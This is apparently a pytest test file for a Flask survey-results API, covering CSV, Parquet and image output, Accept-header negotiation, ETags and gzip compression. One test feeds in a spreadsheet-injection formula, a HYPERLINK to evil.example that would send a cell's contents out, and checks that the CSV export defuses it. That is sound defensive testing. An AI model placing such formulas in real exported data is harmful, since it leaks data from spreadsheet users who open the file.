"""The forms of a result, and the headers that go with them."""

import csv
import gzip
import io
import re
from collections.abc import Callable
from typing import Any

import orjson
import pytest
from flask.testing import FlaskClient
from pyarrow import parquet
from werkzeug.test import TestResponse

from app.formats import CSV, PARQUET
from app.jobs.job import Document, Job, document, job_request
from app.services import Services
from support.small_survey import OBESITY, assert_error

Ask = Callable[..., Any]
RESULT = "/api/get_results/job_id_1"
BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8"
CSV_TYPE, PARQUET_TYPE = "text/csv; charset=utf-8", "application/vnd.apache.parquet"
OHIO_CSV = (
    "location,category,stratum,mean\r\nOhio,Gender,Female,30.0\r\nOhio,Gender,Male,32.0\r\nOhio,Total,Total,31.0\r\n"
)
OHIO_COLUMNS = {
    "location": ["Ohio"] * 3,
    "category": ["Gender", "Gender", "Total"],
    "stratum": ["Female", "Male", "Total"],
    "mean": [30.0, 32.0, 31.0],
}


@pytest.fixture
def ohio(ask: Ask) -> Any:
    """The answer of a small job."""
    return ask("state_mean_by_category", question=OBESITY, state="OH")


def get(client: FlaskClient, path: str = RESULT, **headers: str) -> TestResponse:
    """Get a path with headers whose names are written with underscores."""
    return client.get(path, headers={name.replace("_", "-"): value for name, value in headers.items()})


# Forms


def test_csv_has_a_header_and_a_row_for_each_figure(client: FlaskClient, ohio: Any) -> None:
    answer = get(client, f"{RESULT}?format=csv")
    assert (answer.status_code, answer.content_type, answer.text) == (200, CSV_TYPE, OHIO_CSV)


def test_parquet_has_the_same_columns(client: FlaskClient, ohio: Any) -> None:
    answer = get(client, f"{RESULT}?format=parquet")
    table = parquet.read_table(io.BytesIO(answer.data))
    assert answer.content_type == PARQUET_TYPE
    assert table.to_pydict() == OHIO_COLUMNS
    assert table.schema.metadata[b"statistic"] == b"state_mean_by_category"


def test_numbers_keep_their_full_precision_and_text_its_letters() -> None:
    value, name = 0.1 + 0.2, 'Côte "d\'Or", \n2'
    job = Job(1, job_request("states_mean", b"{}"))
    content = orjson.dumps({"status": "done", "data": {name: value}})
    rows = list(csv.reader(io.StringIO(CSV.write(job, content).decode(), newline="")))
    assert rows == [["location", "mean"], [name, repr(value)]]
    assert parquet.read_table(io.BytesIO(PARQUET.write(job, content))).to_pydict() == {
        "location": [name],
        "mean": [value],
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=ascii)
def test_csv_holds_no_text_that_a_spreadsheet_would_compute(start: str) -> None:
    name = f'{start}HYPERLINK("http://evil.example?"&A1)'
    content = orjson.dumps({"status": "done", "data": {name: -1.5, f" {start}": 2.0}})
    job = Job(1, job_request("diff_from_mean", b"{}"))
    rows = list(csv.reader(io.StringIO(CSV.write(job, content).decode(), newline="")))
    assert rows == [["location", "difference"], [f"'{name}", "-1.5"], [f" {start}", "2.0"]]
    assert parquet.read_table(io.BytesIO(PARQUET.write(job, content)))["location"].to_pylist()[0] == name


def test_years_of_one_and_of_several_years_are_a_column_of_texts() -> None:
    cells = [{"year": year, "value": 30.0} for year in ("2011-2013", 2014)] + [{"year": None, "value": 30.0}]
    made = job_request("estimate", b"{}")
    content = orjson.dumps({"status": "done", "data": cells})
    read = parquet.read_table(io.BytesIO(PARQUET.write(Job(1, made), content)))
    assert read["year"].to_pylist() == ["2011-2013", "2014", None]


def test_a_parquet_column_has_its_type_whether_or_not_there_are_values() -> None:
    cells = [{"year": 2019, "value": None, "low": 1, "high": 1.5, "sample_size": None, "flags": ["suppressed"]}]
    content = orjson.dumps({"status": "done", "data": cells, "provenance": {"rows_used": 1}})
    table = parquet.read_table(io.BytesIO(PARQUET.write(Job(1, job_request("estimate", b"{}")), content)))
    types = {field.name: str(field.type) for field in table.schema}
    assert types["value"] == types["high"] == "double"
    assert types["year"] == types["sample_size"] == "int64"
    assert types["flags"] == "string"
    assert orjson.loads(table.schema.metadata[b"provenance"]) == {"rows_used": 1}


@pytest.mark.parametrize(
    ("accept", "content_type"),
    [
        ("text/csv", CSV_TYPE),
        ("text/csv;charset=utf-8", CSV_TYPE),
        ("text/*", CSV_TYPE),
        ("application/vnd.apache.parquet", PARQUET_TYPE),
        ("text/csv;q=0.5, application/vnd.apache.parquet;q=0.7", PARQUET_TYPE),
        ("application/json;q=0.4, text/csv;q=0.5", CSV_TYPE),
        ("application/json;q=0.5, text/csv;q=0.4", "application/json"),
        ("text/csv;q=0, */*", "application/json"),
        ("application/json", "application/json"),
        ("*/*", "application/json"),
        ("application/*", "application/json"),
        (BROWSER_ACCEPT, "application/json"),
        ("text/html", "application/json"),
        ("application/json;q=0", "application/json"),
        ("nonsense", "application/json"),
        ("", "application/json"),
    ],
)
def test_the_accept_header_chooses_the_format(client: FlaskClient, ohio: Any, accept: str, content_type: str) -> None:
    answer = get(client, Accept=accept)
    assert (answer.status_code, answer.content_type) == (200, content_type)
    assert "Accept" in answer.headers.getlist("Vary")


def test_the_format_parameter_overrides_accept(client: FlaskClient, ohio: Any) -> None:
    answer = get(client, f"{RESULT}?format=json", Accept="text/csv")
    assert answer.json == ohio
    assert "Vary" not in answer.headers


@pytest.mark.parametrize("form", ["xml", "", "CSV"])
def test_an_unknown_format_is_refused_with_the_known_ones(client: FlaskClient, ohio: Any, form: str) -> None:
    reason = assert_error(get(client, f"{RESULT}?format={form}"), 400)
    assert reason == f"format must be json or csv or parquet or bibtex or csljson or zip or svg or png, not '{form}'"


def test_a_failed_job_is_returned_as_json(client: FlaskClient, services: Services) -> None:
    def fail() -> Document:
        raise ZeroDivisionError

    job = services.pool.add_task(job_request("fails", b"{}"), fail)
    assert_error(get(client, f"/api/get_results/{job.id}?format=csv&wait=10", Accept="text/csv"), 200)


def test_a_running_job_is_returned_as_json_without_an_etag(client: FlaskClient, open_gate: Callable[[], None]) -> None:
    answer = get(client, f"{RESULT}?format=parquet", If_None_Match="*")
    assert (answer.status_code, answer.json) == (200, {"status": "running"})
    assert "ETag" not in answer.headers


@pytest.mark.parametrize(
    ("question", "name"),
    [
        (OBESITY, "states_mean-Q036-job_id_1.csv"),
        ("Q036", "states_mean-Q036-job_id_1.csv"),
        (
            "Percent of adults who sing in the shower",
            "states_mean-Percent-of-adults-who-sing-in-the-shower-job_id_1.csv",
        ),
    ],
)
def test_a_file_is_named_after_what_it_holds(client: FlaskClient, ask: Ask, question: str, name: str) -> None:
    ask("states_mean", question=question)
    answer = get(client, Accept="text/csv")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert "Content-Disposition" not in get(client).headers


def test_a_result_of_which_only_the_file_is_left_has_formats_too(services: Services) -> None:
    assert services.question_name(Job(7, None)) == ""
    assert CSV.write(Job(7, None), b'{"status":"done","data":{"Ohio":31.0}}') == b"key,value\r\nOhio,31.0\r\n"


# Tags


def test_each_format_of_a_result_has_its_own_strong_etag(client: FlaskClient, ohio: Any, ask: Ask) -> None:
    ask("global_mean", question=OBESITY)
    paths = [f"{RESULT}?format={name}" for name in ("json", "csv", "parquet")] + ["/api/get_results/job_id_2"]
    tags = [get(client, path).headers["ETag"] for path in paths]
    assert len(set(tags)) == 4
    assert all(re.fullmatch('"[!#-~]+"', tag) for tag in tags)
    assert tags == [get(client, path).headers["ETag"] for path in paths]
    assert get(client).headers["ETag"] == tags[0]


@pytest.mark.parametrize("form", ["json", "csv", "parquet"])
@pytest.mark.parametrize("sent", ["{tag}", "W/{tag}", '"x", {tag}', '"x" ,W/"y",  {tag}', "*"])
def test_a_matching_etag_is_304(client: FlaskClient, ohio: Any, form: str, sent: str) -> None:
    path = f"{RESULT}?format={form}"
    tag = get(client, path).headers["ETag"]
    for ask_for in (client.get, client.head):
        answer = ask_for(path, headers={"If-None-Match": sent.format(tag=tag)})
        assert (answer.status_code, answer.data) == (304, b"")
        assert answer.headers["ETag"] == tag
        assert "Content-Type" not in answer.headers


@pytest.mark.parametrize("sent", ['"x"', 'W/"x", "y"', "", "nonsense"])
def test_another_etag_gets_the_result(client: FlaskClient, ohio: Any, sent: str) -> None:
    assert get(client, If_None_Match=sent).json == ohio


def test_if_match_and_range_do_not_change_a_conditional_request(client: FlaskClient, ohio: Any) -> None:
    tag = get(client).headers["ETag"]
    assert get(client, If_None_Match=tag, If_Match='"other"').status_code == 304
    answer = get(client, If_None_Match='"other"', If_Match='"other"', Range="bytes=0-1")
    assert (answer.status_code, answer.json) == (200, ohio)


def test_the_etag_of_another_format_does_not_match(client: FlaskClient, ohio: Any) -> None:
    tag = get(client, f"{RESULT}?format=csv").headers["ETag"]
    assert get(client, If_None_Match=tag).json == ohio


def test_a_response_without_etag_is_always_sent(client: FlaskClient) -> None:
    assert get(client, "/api/num_jobs", If_None_Match="*").json == {"num_jobs": 0}
    assert_error(get(client, If_None_Match="*"), 404)


def test_a_head_response_has_the_length_and_no_body(client: FlaskClient, ohio: Any) -> None:
    answer = client.head(f"{RESULT}?format=csv")
    assert (answer.status_code, answer.data) == (200, b"")
    assert answer.headers["Content-Length"] == str(len(OHIO_CSV))


# Compression


@pytest.fixture
def long_path(client: FlaskClient, services: Services) -> str:
    """The path of a result of more than a kibibyte."""
    long = document(orjson.dumps({"status": "done", "data": {f"Place {n}": n + 0.5 for n in range(200)}}))
    job = services.pool.add_task(job_request("states_mean", b"{}"), lambda: long)
    path = f"/api/get_results/{job.id}"
    assert client.get(f"{path}?wait=10").get_json()["status"] == "done"
    return path


@pytest.mark.parametrize("encodings", ["gzip", "gzip, deflate, br", "GZIP;q=0.5", "*", "identity;q=0.5, gzip;q=0.5"])
def test_a_long_response_is_compressed_if_the_client_accepts_gzip(
    client: FlaskClient, long_path: str, encodings: str
) -> None:
    plain, answer = get(client, long_path), get(client, long_path, Accept_Encoding=encodings)
    assert answer.headers["Content-Encoding"] == "gzip"
    assert gzip.decompress(answer.data) == plain.data
    assert int(answer.headers["Content-Length"]) == len(answer.data) < len(plain.data)
    assert plain.headers["ETag"] != answer.headers["ETag"]
    for each in (plain, answer):
        assert each.headers.getlist("Vary") == ["Accept", "Accept-Encoding"]


@pytest.mark.parametrize(
    "encodings", ["", "gzip;q=0", "identity", "br", "identity, gzip;q=0.5", "*;q=0", "gzip;q=0, *"]
)
def test_a_long_response_is_plain_if_the_client_does_not(client: FlaskClient, long_path: str, encodings: str) -> None:
    answer = get(client, long_path, Accept_Encoding=encodings)
    assert "Content-Encoding" not in answer.headers
    assert answer.get_json()["status"] == "done"


def test_a_compressed_response_is_stable_and_conditional(client: FlaskClient, long_path: str) -> None:
    first, second = (get(client, long_path, Accept_Encoding="gzip") for _ in range(2))
    assert (first.data, first.headers["ETag"]) == (second.data, second.headers["ETag"])
    tag = first.headers["ETag"]
    answer = get(client, long_path, Accept_Encoding="gzip", If_None_Match=tag)
    assert (answer.status_code, answer.data, answer.headers["ETag"]) == (304, b"", tag)
    assert "Content-Encoding" not in answer.headers
    assert get(client, long_path, If_None_Match=tag).status_code == 200
    head = client.head(long_path, headers={"Accept-Encoding": "gzip"})
    assert (head.data, head.headers["Content-Length"]) == (b"", first.headers["Content-Length"])


def test_csv_is_compressed_and_parquet_is_not(client: FlaskClient, long_path: str) -> None:
    text = get(client, f"{long_path}?format=csv", Accept_Encoding="gzip")
    assert gzip.decompress(text.data).startswith(b"location,mean\r\nPlace 0,0.5\r\n")
    assert "Content-Encoding" not in get(client, f"{long_path}?format=parquet", Accept_Encoding="gzip").headers


def test_a_short_response_is_never_compressed(client: FlaskClient, ohio: Any) -> None:
    answer = get(client, Accept_Encoding="gzip")
    assert "Content-Encoding" not in answer.headers
    assert answer.headers.getlist("Vary") == ["Accept"]


def test_every_long_list_is_compressed(client: FlaskClient, ask: Ask) -> None:
    for _ in range(60):
        ask("global_mean", question=OBESITY)
    for path in ("/api/jobs", "/"):
        plain, answer = get(client, path), get(client, path, Accept_Encoding="gzip")
        assert gzip.decompress(answer.data) == plain.data
        assert "ETag" not in answer.headers


@pytest.mark.parametrize(
    ("look", "reason"),
    [
        ("theme=null", "theme must be light or dark"),
        ("titles=maybe", "titles must be yes or no"),
        ("width=9", "width must be wide or narrow"),
    ],
)
def test_an_unknown_look_of_a_picture_is_refused_in_every_format(
    client: FlaskClient, ohio: Any, look: str, reason: str
) -> None:
    assert reason in assert_error(get(client, f"{RESULT}?{look}"), 400)


def test_a_picture_is_wide_or_narrow_and_has_titles_or_none(client: FlaskClient, ohio: Any) -> None:
    widths = {}
    for look in ("width=wide", "width=narrow", "titles=no"):
        picture = get(client, f"{RESULT}?format=svg&{look}").text
        widths[look] = float(re.findall(r'<svg [^>]*width="([\d.]+)"', picture)[0])
        assert ("role-title-text" in picture) == (look != "titles=no")
    assert widths["width=narrow"] <= 360
    assert widths["width=wide"] > 600


@pytest.mark.parametrize(("form", "start"), [("svg", b"<svg "), ("png", b"\x89PNG\r\n")])
def test_a_picture_is_of_the_chart(client: FlaskClient, ohio: Any, form: str, start: bytes) -> None:
    answer = get(client, f"{RESULT}?format={form}&theme=dark")
    assert answer.data.startswith(start)
    assert answer.headers["Content-Disposition"].endswith(f'.{form}"')
    assert "ETag" not in answer.headers
    assert "cannot be drawn as 'pie'" in assert_error(get(client, f"{RESULT}?format={form}&kind=pie"), 400)
